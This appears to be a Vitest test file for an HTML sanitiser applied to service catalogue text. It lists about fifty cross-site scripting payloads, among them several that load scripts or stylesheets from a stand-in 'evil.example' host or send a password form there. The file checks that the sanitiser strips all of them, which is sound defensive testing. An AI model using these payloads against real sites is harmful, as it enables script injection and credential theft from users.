import { expect, test } from "vitest";

import { sanitiseDetails } from "#app/catalog/sanitise-details.server.ts";
import { serviceRecords } from "#app/catalog/service-records.ts";

const attacks = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror="alert(1)"//`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math href="javascript:alert(1)">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="&#106;avascript:alert(1)">x</a>`,
  `<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="/x" onclick="alert(1)">x</a>`,
  `<a href="/x" style="position:fixed;inset:0">x</a>`,
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<p onmouseover=alert(1) class="x" id="y">x</p>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href="//evil.example/">`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="x.swf"></object><embed src="x.swf">`,
  `<form action="https://evil.example"><input name=password></form>`,
  `<button formaction=javascript:alert(1)>x</button>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<video><source onerror=alert(1)></video>`,
  `<body onload=alert(1)>`,
  `<template><script>alert(1)</script></template>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<title></title><img src=x onerror=alert(1)>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml-stylesheet href="javascript:alert(1)"?>`,
  `<p>unclosed <strong>bold`,
  `<p`,
  `<<p>>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
];

const tagNames = /<\/?([a-z0-9]+)/gi;
const permitted = new Set(
  "h3 h4 p br ul ol li blockquote strong em abbr a table caption thead tbody tr th td".split(" "),
);

test.each(attacks)("nothing that runs, loads or covers the page survives in %j", (attack) => {
  const safe = sanitiseDetails(attack);
  for (const [, name] of safe.matchAll(tagNames)) expect(permitted).toContain(name?.toLowerCase());
  const markup = safe.match(/<[^>]*>/g)?.join("") ?? "";
  expect(markup).not.toMatch(/\son\w+\s*=|style=|class=|id=|srcdoc|formaction/i);
  expect(markup).not.toMatch(/href="(?!https?:|mailto:|tel:|\/(?!\/)|#)/i);
  expect(sanitiseDetails(safe)).toBe(safe);
});

test("what editors write is kept", () => {
  const html = `<h3>What you get</h3><p>A <strong>plan</strong> &amp; <a href="/service/">a list</a>.</p><ul><li>One</li></ul>`;
  expect(sanitiseDetails(html)).toBe(html);
});

test("a page heading pasted in becomes a section heading", () => {
  expect(sanitiseDetails("<h1>Title</h1>")).toBe("<h3>Title</h3>");
});

test("a link that opens a new tab cannot reach back into ours", () => {
  expect(sanitiseDetails(`<a href="https://example.org" target="_blank" rel="opener">x</a>`)).toBe(
    `<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>`,
  );
  expect(sanitiseDetails(`<a href="/x" target="_top">x</a>`)).toBe(`<a href="/x">x</a>`);
});

test("the shipped words lose nothing they say", () => {
  const withoutRel = (html: string) => html.replaceAll(` rel="noopener noreferrer"`, "");
  for (const { details } of serviceRecords) {
    expect(withoutRel(sanitiseDetails(details))).toBe(details.trim());
  }
});
